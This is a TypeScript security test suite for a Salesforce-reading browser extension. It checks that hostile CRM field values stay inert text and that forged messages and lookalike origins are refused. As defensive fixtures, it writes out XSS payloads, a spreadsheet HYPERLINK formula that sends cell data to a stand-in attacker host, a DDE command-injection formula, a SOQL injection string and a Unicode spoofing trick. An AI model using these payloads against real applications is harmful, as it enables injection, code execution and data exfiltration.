import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXTENSION_ID, PAGE_ORIGIN } from '../../scripts/browser/demo-hosts.ts';
import { PanelPage } from '../../scripts/browser/panel-page.ts';
import { until } from '../../scripts/until.ts';
import { sampleSender } from '../../shared/papers/checks/sample-matter.ts';
import { z } from '../../shared/schema.ts';
import { writeOtherExtension } from './fixtures/other-extension.ts';
import { OtherHosts } from './fixtures/other-hosts.ts';
import { CUSTOMERS, Stage } from './fixtures/stage.ts';
import { keptIn } from './fixtures/token-search.ts';
import { CountedHands } from './fixtures/wrap-up.ts';

const { larkspur } = CUSTOMERS;

/** Where everything hostile wants to go, and what it does when it runs. */
const EVIL = 'evil.example';
const RUN = 'globalThis.__canary=1';

/** By what each is: how a colleague, a customer on a portal or another program could have filled the field. */
const NAME = `=1+1;=2<img src=https://${EVIL}/n onerror=${RUN}>Lark\u202eruops\u202c\u200b Ltd`;
const SHOWN = `=1+1;=2<img src=https://${EVIL}/n onerror=${RUN}>Larkruops Ltd`;
const NUMBER = `=HYPERLINK("https://${EVIL}/"&A1)`;
const ORDER = `@SUM(1;=cmd|' /C calc'!A0)`;
const WORDS = `"><script>${RUN}</script><iframe src=https://${EVIL}/w></iframe> javascript:${RUN} ' OR Name LIKE '%`;

const idSchema = z.object({ Id: z.string() });
const messages = [
  { channel: 'session.list', request: {} },
  { channel: 'outbox.wake', request: {} },
  { notice: 'session.changed' },
  { channel: 'customer.search', request: { apiOrigin: 'https://demo.my.salesforce.com', text: 'a' } },
];

describe('an attacker who writes into the CRM', () => {
  let stage: Stage;
  let panel: PanelPage;
  let id: string;
  let others: OtherHosts;
  let ran = 0;
  let asked = 0;
  const folder = mkdtempSync(join(tmpdir(), 'parley-hostile-'));

  /** Nothing of what was written into the org runs in any page of ours, nor in the worker. */
  const nothingRan = async () => {
    for (const target of stage.launched.browser.targets()) {
      if (!target.url().startsWith(`chrome-extension://${EXTENSION_ID}/`)) continue;
      const worker = target.type() === 'service_worker' ? await target.worker() : null;
      const isHere = () => Object.hasOwn(globalThis, '__canary');
      const has = worker ? await worker.evaluate(isHere) : await (await target.asPage()).evaluate(isHere);
      expect(has).toBe(false);
      ran += 1;
    }
    expect(others.times(EVIL)).toBe(0);
  };

  beforeAll(async () => {
    others = await OtherHosts.listen();
    stage = await Stage.open({ elsewhere: others.port });
    id = await stage.goTo('larkspur');
    await stage.org.edit('Account', id, { Name: NAME, BillingStreet: WORDS });
    for (const contact of await stage.org.query(`SELECT Id FROM Contact WHERE AccountId = '${id}'`, idSchema))
      await stage.org.edit('Contact', contact.Id, { LastName: WORDS.slice(0, 80), Title: NUMBER });
    for (const task of await stage.org.query(`SELECT Id FROM Task WHERE AccountId = '${id}'`, idSchema))
      await stage.org.edit('Task', task.Id, {
        Subject: NAME.slice(0, 200),
        Description: `${WORDS} ${ORDER}`,
      });
    panel = await PanelPage.open(stage.launched, stage.page);
    const session = await panel.page.createCDPSession();
    await session.send('Browser.setDownloadBehavior', { behavior: 'allow', downloadPath: folder });
    panel.page.on('dialog', (dialog) => expect.fail(`A dialog opened: ${dialog.message()}`));
    await panel.connect();
  });
  afterAll(async () => {
    await stage.close();
    await others.close();
    rmSync(folder, { recursive: true, force: true });
    console.log(
      `hostile: ${ran} looks into pages and worker, ${asked} forged messages, ${others.heard.length} requests elsewhere`,
    );
  });

  it('is read as text: customer, verdict, money, history', async () => {
    await panel.shows('Customer', SHOWN);
    await panel.shows('Verdict', /\w/);
    await panel.shows('Money', /\d/);
    await panel.shows('History', '<script>');
    expect(await panel.page.$('img, iframe, script:not([src])')).toBeNull();
    await nothingRan();
  });

  it('is text in a call, its note, its receipt and what is written', async () => {
    const before = (await stage.org.attemptsOf(id)).length;
    const hands = new CountedHands(panel);
    await hands.call(larkspur.phone);
    await hands.key('a');
    await panel.shows('Call', /speak with|calling/i);
    await hands.key('w');
    await hands.press('Dispute');
    const [box] = await until('an invoice', async () => {
      const boxes = await panel.page.$$('.fact .invoice-line input[type="checkbox"]');
      return boxes.length > 0 && boxes;
    });
    await box?.asLocator().click();
    await hands.choose('Reason', 'Quantity or short shipment');
    await hands.fill('Their own words', WORDS);
    await hands.save();
    await panel.outboxSays('All saved');
    await nothingRan();
    const attempts = await stage.org.attemptsOf(id);
    expect(attempts).toHaveLength(before + 1);
    const tasks = await stage.org.tasksOf(id);
    expect(tasks.some(({ Description }) => Description?.includes(`<script>${RUN}</script>`))).toBe(true);
  });

  it('is text on paper, and no formula in a file', async () => {
    await panel.page.evaluate(
      (sender) => chrome.storage.local.set({ paperSender: { v: 1, data: sender } }),
      sampleSender,
    );
    await panel.press('Papers for this');
    const row = await until('the paper', () => panel.page.$('[data-paper="dispute-acknowledgement"]'));
    await row.asLocator().click();
    await panel.press('Open and print');
    const target = await until('the page of the paper', async () =>
      stage.launched.browser.targets().find((one) => one.url().includes('/paper.html#')),
    );
    const paper = (await target.asPage()) as Page;
    await paper.waitForSelector('article.sheet');
    expect(await paper.evaluate(() => document.querySelector('article.sheet')?.textContent)).toContain(SHOWN);
    expect(await paper.$('img, iframe, script:not([src]), a:not([href^="https:"])')).toBeNull();
    await nothingRan();
    await paper.close();
    await panel.page.bringToFront();
    const back = await panel.page.$('::-p-text(All papers)');
    await back?.asLocator().click();
    const list = await until('the list for sales', () => panel.page.$('[data-paper^="escalat"]'));
    await list.asLocator().click();
    await panel.pressWith('CSV');
    const file = await until('the file', async () =>
      readdirSync(folder).find((name) => name.endsWith('.csv')),
    );
    const csv = readFileSync(join(folder, file), 'utf8');
    expect(csv).toContain(`"'=1+1;'=2<img`);
    expect(csv).not.toMatch(/(?:^|[,;\t"])=/m);
    await nothingRan();
  });

  it('finds nobody by a query in the search field', async () => {
    await panel.page.keyboard.press('Escape');
    await panel.page.keyboard.press('Escape');
    await panel.page.keyboard.press('/');
    await panel.fill('Name, phone, invoice, account or e-mail', `zz' OR Name LIKE '%`);
    await panel.press('Find');
    await panel.says(/Nothing found/);
  });

  it('a card number that is pasted reaches neither disk nor CRM until a person says that it is none', async () => {
    await panel.page.keyboard.press('Escape');
    await panel.shows('Customer', SHOWN);
    const before = await stage.org.tasksOf(id);
    await panel.choose(larkspur.phone);
    const note = await until('the note', () => panel.page.$('::-p-aria([name="Note"][role="textbox"])'));
    await note.focus();
    // As a paste: all of it in one event.
    await panel.page.keyboard.sendCharacter('order 4111-1111-1111-1111');
    await panel.says('•••• 1111 looks like a card number');
    await panel.press('No answer');
    await until('the masked draft', async () =>
      (await keptIn(panel.page, 'indexedDB')).includes('order ••••'),
    );
    for (const area of ['indexedDB', 'local', 'session'] as const)
      expect(await keptIn(panel.page, area)).not.toContain('4111-1111');
    expect(await stage.org.tasksOf(id)).toHaveLength(before.length);
    await panel.press('It is no card (•••• 1111)');
    await panel.press('No answer');
    await panel.outboxSays('All saved');
    const written = await stage.org.newTasks(id, before);
    expect(written.map(({ Description }) => Description).join()).toContain('order 4111-1111-1111-1111');
  });

  it('gets no answer from Parley as another extension, as its content script, or in a frame of the page', async () => {
    await panel.page.keyboard.press('Escape');
    const calls = stage.org.extensionCalls().length;
    const other = writeOtherExtension(join(folder, 'other'), EXTENSION_ID, messages);
    const otherId = await stage.launched.browser.installExtension(other);
    await stage.page.reload();
    const fromPage = await until('the answers to the content script', () =>
      stage.page.evaluate(() => document.documentElement.dataset.answers),
    );
    const target = await stage.launched.browser.waitForTarget(
      (one) => one.type() === 'service_worker' && one.url().includes(otherId),
    );
    const worker = await target.worker();
    const fromWorker = await worker?.evaluate(
      (id, all) =>
        (globalThis as unknown as { askAll(id: string, all: unknown): Promise<unknown[]> }).askAll(id, all),
      EXTENSION_ID,
      messages,
    );
    for (const answers of [JSON.parse(fromPage) as unknown[], fromWorker ?? []]) {
      expect(answers).toHaveLength(messages.length * 2);
      for (const answer of answers) expect(answer).toMatch(/Receiving end does not exist|closed/);
      asked += answers.length;
    }
    await stage.page.evaluate((id) => {
      const frame = document.createElement('iframe');
      frame.src = `chrome-extension://${id}/sidepanel.html`;
      document.body.append(frame);
      return new Promise((resolve) => frame.addEventListener('load', resolve));
    }, EXTENSION_ID);
    const panels = stage.page.frames().filter((frame) => frame.url().endsWith('/sidepanel.html'));
    expect(panels).toEqual([]);
    expect(
      stage.org
        .extensionCalls()
        .slice(calls)
        .map(({ path }) => path),
    ).toEqual([]);
    await panel.shows('Customer', SHOWN);
  });

  it.each([
    ['a page of another host with the same path', `https://demo.lightning.force.com.${EVIL}`],
    ['a page whose address names ours', `https://${EVIL}/${PAGE_ORIGIN}`],
    ['a page of another org', 'https://another.lightning.force.com'],
  ])('is not taken for the record: %s', async (_what, origin) => {
    const isGone = async () => !(await panel.hasLandmark('Customer'));
    await stage.page.goto('about:blank');
    await until('the customer to be gone', isGone);
    const before = stage.org.extensionCalls().length;
    await stage.page.goto(`${PAGE_ORIGIN}/lightning/r/Account/${id}/view`);
    await panel.shows('Customer', SHOWN);
    // What is kept is shown first, then read again.
    const calls = await until('the reading', async () => {
      const made = stage.org.extensionCalls().length;
      return made > before && made;
    });
    // Nobody answers at some of them: the address alone is what would deceive.
    await stage.page.goto(`${origin}/lightning/r/Account/${id}/view`).catch(() => undefined);
    await until('the customer to be gone', isGone);
    expect(stage.org.extensionCalls()).toHaveLength(calls);
    const heard = others.times(EVIL);
    if (origin.includes(EVIL)) expect(heard).toBeGreaterThan(0);
  });
});
